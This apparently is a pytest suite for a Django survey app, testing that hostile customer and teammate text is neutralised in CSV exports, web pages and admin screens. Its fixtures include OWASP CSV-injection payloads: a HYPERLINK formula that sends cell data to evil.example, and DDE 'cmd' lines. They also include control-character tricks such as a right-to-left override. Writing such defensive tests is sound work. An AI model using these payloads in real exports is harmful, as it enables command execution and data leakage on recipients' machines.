"""Text from outside (a customer's comment and name, a teammate's name) that tries to be a formula, hide behind
control characters or swamp a screen: neutral in both CSVs, clean on the pages, and a long comment cut with the
whole of it one click away."""

import csv
import html
import io
from datetime import date

import pytest
from django.contrib.auth.models import User
from django.urls import reverse
from django.utils import timezone

from surveys.models import Feedback, SurveyRequest, TeammateDailyCount
from surveys.reporting.views import COLUMNS, TEAMMATE_COLUMNS
from tests.factories import SurveyRequestFactory

pytestmark = pytest.mark.django_db

# What a spreadsheet would run: OWASP's CSV injection examples, one per character a formula starts with.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# BEL, ESC (as in a terminal's colour code), the right-to-left override, an isolate and its end, and a C1 control:
# none of them is for a screen.
CONTROLS = "\x07\x1b\u202e\u2066\u2069\x85"
HIDDEN = "Fine service\x07 and \x1b[31mred\u202e txt.exe \u2066done\u2069\x85"
LONG = ("Read me. " + "The agent was wonderful and patient with me. " * 5000)[:200_028]
DAY = date(2026, 11, 2)
EXCEL_CELL_LIMIT = 32_767  # characters in a cell, at most


@pytest.fixture
def support(account):
    user = User.objects.create_user("helpdesk", password="pw-helpdesk-123")
    account.support_users.add(user)
    return user


def answered(account, n: int, *, name: str, teammate: str, comment: str) -> SurveyRequest:
    survey_request = SurveyRequestFactory(
        account=account, status=SurveyRequest.Status.SENT, closed_at=timezone.now(), conversation_id=f"hostile-{n}",
        customer_name=name, teammate_name=teammate,
    )  # fmt: skip
    Feedback.objects.create(
        account=account, uuid=f"uuid-{n}", sequence_id=n + 1, ext_interaction_id=survey_request.conversation_id,
        survey_request=survey_request, mode="test", channel="chat", employee_email="tess@support.example",
        delivery_status="Delivered", request_created_at=survey_request.closed_at, star_rating=1, comment=comment,
    )  # fmt: skip
    return survey_request


def teammate_counted(account, n: int, *, teammate: str, name: str) -> None:
    TeammateDailyCount.objects.create(
        account=account, day=DAY, mode="live", teammate=teammate, teammate_name=name, channel="chat",
        requested=10 + n, delivered=-n, responded=0, rating_sum=0, rating_count=0,
    )  # fmt: skip


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_cell_is_a_formula_or_hides_a_control(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell.lstrip()[:1] not in set("=+-@\t\r") or is_number(cell), (row, cell)
            assert not set(cell) & set(CONTROLS), (row, cell)


def test_formulas_in_comments_and_names_reach_the_status_csv_as_text(client, support, account):
    for n, formula in enumerate(FORMULAS):
        answered(account, n, name=formula, teammate=formula, comment=formula)
    client.force_login(support)
    header, *rows = read_csv(client.get("/status/export.csv", {"tab": "sent"}))
    assert header == COLUMNS and len(rows) == len(FORMULAS)
    assert_no_cell_is_a_formula_or_hides_a_control(rows)
    by_conversation = {row[COLUMNS.index("conversation")]: dict(zip(COLUMNS, row, strict=True)) for row in rows}
    for n, formula in enumerate(FORMULAS):
        row = by_conversation[f"hostile-{n}"]
        shown = formula.replace("\t", " ").replace("\r", "\n")  # a tab reads as a space, a CR as a line break
        assert row["comment"] == row["teammate"] == "'" + shown
        assert row["customer_name"].startswith("'") and "•••" in row["customer_name"]  # masked, and disarmed
        assert row["star_rating"] == "1"


def test_formulas_in_teammates_reach_the_teammates_csv_as_text_and_negative_counts_stay_numbers(
    client, support, account
):
    for n, formula in enumerate(FORMULAS):
        teammate_counted(account, n, teammate=formula, name=formula)
    client.force_login(support)
    response = client.get("/status/teammates.csv", {"date_from": "2026-11-01", "date_to": "2026-11-30"})
    header, *rows, total = read_csv(response)
    assert header == TEAMMATE_COLUMNS and len(rows) == len(FORMULAS)
    assert_no_cell_is_a_formula_or_hides_a_control([*rows, total])
    for row in rows:
        teammate, name, _, requested, delivered, *_ = row
        assert teammate.startswith("'") and name == teammate
        assert int(requested) >= 10 and int(delivered) <= 0  # numbers, written as numbers
    assert {row[0][1:] for row in rows} == {f.replace("\t", " ").replace("\r", "\n") for f in FORMULAS}
    assert total[1] == "Total" and total[4] == str(-sum(range(len(FORMULAS))))


def test_control_characters_are_gone_from_the_csvs_and_the_pages(client, support, account, admin_client):
    survey_request = answered(account, 1, name=f"Ada{CONTROLS} Lovelace", teammate=HIDDEN, comment=HIDDEN)
    teammate_counted(account, 1, teammate=f"tess{CONTROLS}@support.example", name=HIDDEN)
    client.force_login(support)
    dates = {"date_from": "2026-11-01", "date_to": "2026-11-30"}
    status_rows = read_csv(client.get("/status/export.csv", {"tab": "sent"}))
    teammate_rows = read_csv(client.get("/status/teammates.csv", dates))
    assert_no_cell_is_a_formula_or_hides_a_control(status_rows + teammate_rows)
    cleaned = "Fine service and [31mred txt.exe done"
    assert status_rows[1][COLUMNS.index("comment")] == status_rows[1][COLUMNS.index("teammate")] == cleaned
    assert teammate_rows[1][:2] == ["tess@support.example", cleaned]

    api = client.get("/api/survey-requests/", HTTP_ACCEPT="application/json").json()["results"][0]
    assert api["comment"] == cleaned  # the presenter's words, as on the page; the model's fields as stored
    pages = [
        client.get("/status/", {"tab": "sent"}),
        client.get("/status/teammates/", dates),
        admin_client.get(reverse("admin:surveys_surveyrequest_changelist")),
        admin_client.get(reverse("admin:surveys_surveyrequest_change", args=[survey_request.pk])),
        admin_client.get(reverse("admin:surveys_feedback_changelist")),
        admin_client.get(reverse("admin:surveys_feedback_change", args=[survey_request.feedback.pk])),
    ]
    for response in pages:
        text = response.content.decode()
        assert response.status_code == 200 and "txt.exe" in text, response.request["PATH_INFO"]
        hidden = set(CONTROLS) & set(text)
        assert not hidden, (response.request["PATH_INFO"], hidden)


def test_a_200028_character_comment_is_cut_on_the_status_page_with_the_whole_one_click_away(client, support, account):
    assert len(LONG) == 200_028
    answered(account, 1, name="Ada Lovelace", teammate="Tess", comment=LONG)
    client.force_login(support)
    page = client.get("/status/", {"tab": "sent"}).content.decode()
    cell = page.split('<td class="stella">')[1].split("</td>")[0]
    summary = cell.split("<summary>")[1].split("</summary>")[0]
    start = summary.split('<q class="start">')[1].split("</q>")[0]
    assert start.startswith("Read me. The agent was wonderful") and start.endswith("…") and len(start) <= 60
    assert "Show all 200,028 characters" in summary
    # The whole comment, once, inside the <details> that "Show all" opens: no script needed.
    assert f'<q class="whole">{html.escape(LONG)}</q></details>' in cell
    assert page.count(html.escape(LONG[:1000])) == 1  # not again in a title to hover

    [row] = read_csv(client.get("/status/export.csv", {"tab": "sent"}))[1:]
    comment = row[COLUMNS.index("comment")]
    assert len(comment) <= EXCEL_CELL_LIMIT and comment.startswith("Read me.")
    assert comment.endswith(" […cut at Excel's limit of 32,767 characters: 200,028 in all]")


def test_a_200028_character_comment_is_cut_in_the_admins_lists_and_whole_on_its_pages(admin_client, account):
    survey_request = answered(account, 1, name="Ada Lovelace", teammate="Tess", comment=LONG)
    for name, pk in (("surveyrequest", survey_request.pk), ("feedback", survey_request.feedback.pk)):
        listing = admin_client.get(reverse(f"admin:surveys_{name}_changelist")).content.decode()
        assert "Read me. The agent was wonderful" in listing, name  # cut, in the cell or its hover
        assert LONG[:1000] not in listing and len(listing) < 100_000, name
        assert reverse(f"admin:surveys_{name}_change", args=[pk]) in listing  # the row's page, one click away
        row_page = admin_client.get(reverse(f"admin:surveys_{name}_change", args=[pk])).content.decode()
        assert html.escape(LONG) in row_page, name
